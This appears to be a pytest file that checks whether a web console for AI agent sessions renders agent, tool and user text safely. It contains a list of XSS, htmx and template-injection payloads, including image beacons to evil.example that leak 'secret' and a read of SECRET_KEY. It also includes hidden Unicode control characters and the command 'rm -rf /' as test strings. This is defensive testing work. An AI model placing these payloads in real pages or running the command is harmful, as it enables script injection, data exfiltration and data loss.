"""What agents, tools and people wrote is text: no tag, no handler, no request comes of it, and nothing in it hides."""

import re

import pytest

from sessions.forms.schema import fields_of
from sessions.models import Session
from sessions.present.display import indented, one_line, shortened, visible, visible_prose
from sessions.present.markdown import rendered
from tests.console.conftest import HTMX, Elements, get, page_of, text_of
from tests.sessions import toolset
from tests.sessions.conftest import call, work

pytestmark = pytest.mark.django_db(transaction=True)

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><a href="javascript:alert(1)" onmouseover="alert(1)">x</a>',
    "<div hx-get='/w/acme/sessions/' hx-trigger='load' hx-on::load='alert(1)'>x</div>",
    "<form action='https://evil.example'><input name=q></form>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<link rel=icon href=https://evil.example/i.png>",
    "![secret](https://evil.example/?q=secret)",
    "![secret][r]\n\n[r]: https://evil.example/?q=secret",
    "[x](javascript:alert(1)) [y](data:text/html,<script>alert(1)</script>) [z](vbscript:x)",
    "<picture><source srcset='https://evil.example/1'><img srcset='https://evil.example/2'></picture>",
    "{{ 7|add:'7' }} {% load static %} {# x #} {{ settings.SECRET_KEY }}",
    "</textarea></pre></title><script>alert(1)</script>",
    "<b id=road hx-swap-oob=true>gone</b>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]
ALL = "\n\n".join(PAYLOADS)
OURS = {"127.0.0.1", ""}


def check(html: str) -> None:
    """No element or attribute of *html* came out of a payload."""
    found = Elements(html)
    for tag, attrs in found.found:
        assert tag not in ("iframe", "object", "embed", "style", "base", "picture", "source", "img", "frame")
        assert not [name for name in attrs if name.startswith("on") or name in ("srcdoc", "srcset", "style")], attrs
        if tag == "script":
            assert (attrs.get("src") or "").startswith("/static/"), attrs
        if tag == "meta":
            assert "http-equiv" not in attrs
        for name in ("href", "src", "action", "formaction", "hx-get", "hx-post", "xlink:href"):
            value = (attrs.get(name) or "").strip().lower()
            if tag == "a" and value.startswith("https://evil.example"):  # a picture that became a link to it
                assert name == "href" and attrs["rel"] == "noopener noreferrer nofollow"
                continue
            assert not value or value.startswith(("/", "#", "?", "mailto:")), (tag, name, value)
        # The one thing that asks by itself is the poll.
        if "load" in (attrs.get("hx-trigger") or "") or "every" in (attrs.get("hx-trigger") or ""):
            assert attrs["id"] == "poll"
    assert "alert(1)" in found.text and "1414" not in found.text


@pytest.fixture
def hostile(waiting, alice_actor):
    """A session with payloads in every text: task, title, agent, reply, arguments, result, question, schema."""

    def made() -> Session:
        toolset.ACTS["once"] = lambda _: ALL
        schema = {
            "type": "object",
            "title": ALL,
            "properties": {
                PAYLOADS[1]: {"type": "string", "title": PAYLOADS[0], "description": ALL, "examples": [PAYLOADS[3]]},
                "choice": {"enum": PAYLOADS[:4], "title": PAYLOADS[3]},
                "more": {"enum": PAYLOADS[:9], "title": PAYLOADS[4]},
                "note": {"type": "object", "default": PAYLOADS[5]},
            },
        }
        questions = [
            {
                "question": ALL[:1900],
                "header": "<b onclick=x>",
                "options": [{"label": one[:80], "description": one[:400]} for one in PAYLOADS[:4]],
            },
            {"question": "<i onload=y>", "multi_select": True, "options": [{"label": PAYLOADS[10]}]},
        ]
        script = [
            {"say": ALL.replace("{", "(").replace("}", ")"), "calls": [call("once", text=ALL.replace("{", "("))]},
            {
                "calls": [
                    {
                        "tool": "system__ask_user",
                        "arguments": {"prompt": ALL.replace("{", "("), "response_schema": schema},
                    },
                    {"tool": "system__ask_question", "arguments": {"questions": questions}},
                    {"tool": "<script>alert(1)</script>", "arguments": {}},
                ]
            },
            {"say": ALL.replace("{", "(")},
        ]
        script[1]["calls"][0]["arguments"]["response_schema"] = _without_braces(schema)
        script[1]["calls"][1]["arguments"]["questions"] = _without_braces(questions)
        return waiting(script, tools=["test", "system"], by=alice_actor, suspension={"may_ask_questions": True})

    return made


def _without_braces(value):
    """As the scripted model needs it: its own templates are in braces."""
    if isinstance(value, str):
        return value.replace("{", "(").replace("}", ")")
    if isinstance(value, list):
        return [_without_braces(one) for one in value]
    return {_without_braces(k): _without_braces(v) for k, v in value.items()} if isinstance(value, dict) else value


def test_payloads_in_every_text_of_a_session_stay_text(hostile, alice, browser_of, worker):
    session, client = hostile(), browser_of(alice)
    session.text.title = PAYLOADS[3] + PAYLOADS[0]
    session.text.input = ALL
    session.text.save()
    session.version.agent.name = PAYLOADS[0]
    session.version.agent.save()
    for path in ("", "?tab=timeline", "?tab=calls", "live/?after=0"):
        check(get(client, page_of(session, path)))
    check(get(client, "/w/acme/sessions/"))
    html = get(client, page_of(session))
    assert html.count("7|add:") >= 1 and 'id="e-t2"' in html
    first, second = session.yields.order_by("opened_at", "pk")
    for headers in ({}, HTMX):
        data = {"f0": ALL, "f1": ALL, "f3": ALL, "q0-words": ALL, "q1": "0"}
        response = client.post(page_of(session, f"yields/{first.pk}/answer/"), data, headers=headers)
        assert response.status_code == 422
        check(text_of(response))
    assert client.post(page_of(session, f"yields/{second.pk}/answer/"), {"q0-words": ALL, "q1": "0"}).status_code == 302
    late = client.post(page_of(session, f"yields/{second.pk}/answer/"), {"q0-words": ALL, "q1": "0"})
    assert late.status_code == 409
    check(text_of(late))
    client.post(page_of(session, "steer/"), {"text": ALL})
    client.post(page_of(session, f"yields/{first.pk}/cancel/"), {"reason": ALL[:1900]})
    work(worker)
    check(get(client, page_of(session)))
    check(get(client, page_of(session, "?tab=timeline")))


def test_a_filter_that_is_hostile_is_refused_or_shown_as_text(alice, acme, browser_of):
    client = browser_of(alice)
    for name in ("state", "waiting_kind", "before", "after"):
        response = client.get("/w/acme/sessions/", {name: PAYLOADS[0]})
        assert response.status_code == 422
        assert "<script>alert" not in text_of(response)
    for name in ("agent", "q", "needs_person"):
        html = text_of(client.get("/w/acme/sessions/", {name: PAYLOADS[3]}))
        assert '<a href="javascript' not in html
    assert client.get("/w/acme/sessions/", {"q": "a\0b"}).status_code == 422


HIDDEN = [
    *range(0x09), 0x0B, 0x0D, 0x1B, 0x7F, 0x85, 0xA0, 0xAD, 0x034F, 0x061C, 0x115F, 0x1160, 0x180B, 0x180E,
    0x2000, 0x200B, 0x200C, 0x200D, 0x200E, 0x200F, 0x2028, 0x2029, 0x202A, 0x202B, 0x202D, 0x202E, 0x202F,
    0x2060, 0x2061, 0x2066, 0x2067, 0x2068, 0x2069, 0x206A, 0x2800, 0x3000, 0x3164, 0xE000, 0xFE00, 0xFE0F,
    0xFEFF, 0xFFA0, 0xFFF9, 0x378, 0xE0001, 0xE0041, 0xE0100, 0x10FFFF,
]  # fmt: skip


@pytest.mark.parametrize("code", HIDDEN, ids=hex)
def test_what_the_eye_cannot_see_is_written_out(code):
    for text in (f"rm{chr(code)}-rf", f"{chr(code)}x", f"x{chr(code)}"):
        shown = visible(text)
        assert f"⟨U+{code:04X}⟩" in shown and chr(code) not in shown
        assert chr(code) not in one_line(text) or chr(code) == "\n"


@pytest.mark.parametrize("text", ["a\nb\tc", "Grüße, 你好", "می‌خواهم", "क्‍ष", "👩‍💻 ⚠️ ❤️", "Ж ё é", "½ € “x”"])
def test_what_can_be_seen_stays(text):
    assert visible(text) == text and visible_prose(text) == text


def test_direction_changing_characters_are_written_out_in_prose_too():
    assert rendered("see \u202egpj.exe") == "<p>see ⟨U+202E⟩gpj.exe</p>\n"


def test_a_picture_is_a_link_and_only_the_web_and_mail_are_linked():
    html = rendered(
        "![a *b*](https://x.example/i.png) [c](/w/acme/) [d](ftp://x) <https://y.example> [e](mailto:a@b.c)"
    )
    assert re.findall(r'href="([^"]+)"', html) == ["https://x.example/i.png", "https://y.example", "mailto:a@b.c"]
    assert "<img" not in html and ">a b</a>" in html and html.count('rel="noopener noreferrer nofollow"') == 3


def test_text_that_takes_long_to_render_is_shown_as_it_is():
    assert rendered("[" * 3_000) == "" and rendered("x" * 30_001) == ""


def test_numbers_and_order_of_json_stay_as_written():
    text = '{"b":1.10,"a":[9007199254740993,{}],"s":"{,}\\"[:"}'
    assert re.sub(r"\s", "", indented(text)) == text
    assert indented('{"a":[1,{"b":[]}]}') == '{\n  "a": [\n    1,\n    {\n      "b": []\n    }\n  ]\n}'


def test_long_text_keeps_its_tail():
    text = "start" + "x" * 50_000 + "; rm -rf /"
    assert shortened(text).startswith("start") and shortened(text).endswith("; rm -rf /")
    assert "30015 characters are left out here" in shortened(text)


def test_a_property_can_pass_for_no_other_field():
    names = [field.name for field in fields_of({"type": "object", "properties": {"reason": {}, "after": {}, "f0": {}}})]
    assert names == ["f0", "f1", "f2"]
